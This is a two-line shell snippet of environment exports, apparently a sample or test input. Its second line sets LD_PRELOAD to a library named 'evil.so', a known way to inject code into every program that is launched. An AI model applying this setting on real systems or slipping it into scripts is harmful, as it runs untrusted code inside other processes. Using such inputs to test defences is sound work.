export SERVE_VERSION=v1
export LD_PRELOAD=evil.so
